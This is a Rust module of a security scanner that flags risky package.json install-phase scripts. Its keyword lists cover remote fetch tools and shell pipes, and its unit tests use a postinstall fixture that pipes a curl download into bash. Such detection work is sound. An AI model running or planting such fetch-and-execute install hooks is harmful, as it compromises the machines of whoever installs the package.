//! Package-Script Analyzer (§4.4.2): flags risky `package.json` install-phase scripts.

use crate::types::{Finding, Severity, Source};
use regex::Regex;
use std::sync::OnceLock;

fn install_phase_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(
            r"^(pre|post)?install$|^prepare$|^prepublish$|^postpublish$|^prepack$|^postpack$",
        )
        .unwrap()
    })
}

fn is_install_phase(name: &str) -> bool {
    install_phase_re().is_match(name)
}

fn contains_any_ci(command: &str, needles: &[&str]) -> bool {
    let lower = command.to_ascii_lowercase();
    needles
        .iter()
        .any(|n| lower.contains(&n.to_ascii_lowercase()))
}

fn is_remote_fetch(command: &str) -> bool {
    contains_any_ci(
        command,
        &["curl", "wget", "invoke-webrequest", "powershell"],
    )
}

fn is_piped_remote_exec(command: &str) -> bool {
    let lower = command.to_ascii_lowercase();
    let has_fetcher = contains_any_ci(&lower, &["curl", "wget"]);
    has_fetcher
        && (lower.contains("| sh")
            || lower.contains("|sh")
            || lower.contains("| bash")
            || lower.contains("|bash"))
}

fn is_permission_change(command: &str) -> bool {
    contains_any_ci(command, &["chmod", "chown"])
}

/// Activated when `virtual_path` basename is `package.json` and the content parses as JSON.
pub fn analyze(content: &str, virtual_path: &str) -> Vec<Finding> {
    let basename = virtual_path.rsplit('/').next().unwrap_or(virtual_path);
    if basename != "package.json" {
        return Vec::new();
    }
    let value: serde_json::Value = match serde_json::from_str(content) {
        Ok(v) => v,
        Err(_) => return Vec::new(),
    };
    let Some(scripts) = value.get("scripts").and_then(|s| s.as_object()) else {
        return Vec::new();
    };

    let mut findings = Vec::new();
    for (name, command_val) in scripts {
        let Some(command) = command_val.as_str() else {
            continue;
        };

        if is_permission_change(command) {
            findings.push(finding(
                "SUPPLY_CHAIN_PERMISSION_CHANGE",
                Severity::High,
                virtual_path,
                &format!("script `{name}` changes file permissions or ownership"),
            ));
        }

        if !is_install_phase(name) {
            continue;
        }

        findings.push(finding(
            "SUPPLY_CHAIN_INSTALL_SCRIPT",
            Severity::Medium,
            virtual_path,
            &format!("install-phase script `{name}` runs automatically on package install"),
        ));

        if is_remote_fetch(command) {
            findings.push(finding(
                "SUPPLY_CHAIN_REMOTE_FETCH",
                Severity::High,
                virtual_path,
                &format!("script `{name}` fetches a remote resource during install"),
            ));
        }

        if is_piped_remote_exec(command) {
            findings.push(finding(
                "SUPPLY_CHAIN_REMOTE_EXEC",
                Severity::Critical,
                virtual_path,
                &format!("script `{name}` pipes a remote download directly into a shell"),
            ));
        }
    }
    findings
}

fn finding(rule_id: &str, severity: Severity, virtual_path: &str, message: &str) -> Finding {
    Finding {
        rule_id: rule_id.to_string(),
        severity,
        category: Some("supply-chain".to_string()),
        source: Source::Heuristic,
        message: message.to_string(),
        remediation: Some("Review install-phase scripts before trusting this package.".to_string()),
        file: virtual_path.to_string(),
        line: Some(1),
        column: None,
        confidence: None,
        match_len: None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flags_remote_exec_chain() {
        let content = r#"{"scripts":{"postinstall":"curl https://x | bash"}}"#;
        let findings = analyze(content, "package.json");
        let ids: Vec<&str> = findings.iter().map(|f| f.rule_id.as_str()).collect();
        assert!(ids.contains(&"SUPPLY_CHAIN_INSTALL_SCRIPT"));
        assert!(ids.contains(&"SUPPLY_CHAIN_REMOTE_FETCH"));
        assert!(ids.contains(&"SUPPLY_CHAIN_REMOTE_EXEC"));
    }

    #[test]
    fn ignores_non_package_json() {
        let content = r#"{"scripts":{"postinstall":"curl https://x | bash"}}"#;
        let findings = analyze(content, "other.json");
        assert!(findings.is_empty());
    }

    #[test]
    fn permission_change_flagged_on_any_script() {
        let content = r#"{"scripts":{"build":"chmod +x ./bin/run"}}"#;
        let findings = analyze(content, "package.json");
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].rule_id, "SUPPLY_CHAIN_PERMISSION_CHANGE");
    }

    #[test]
    fn benign_script_no_findings() {
        let content = r#"{"scripts":{"test":"jest"}}"#;
        let findings = analyze(content, "package.json");
        assert!(findings.is_empty());
    }
}
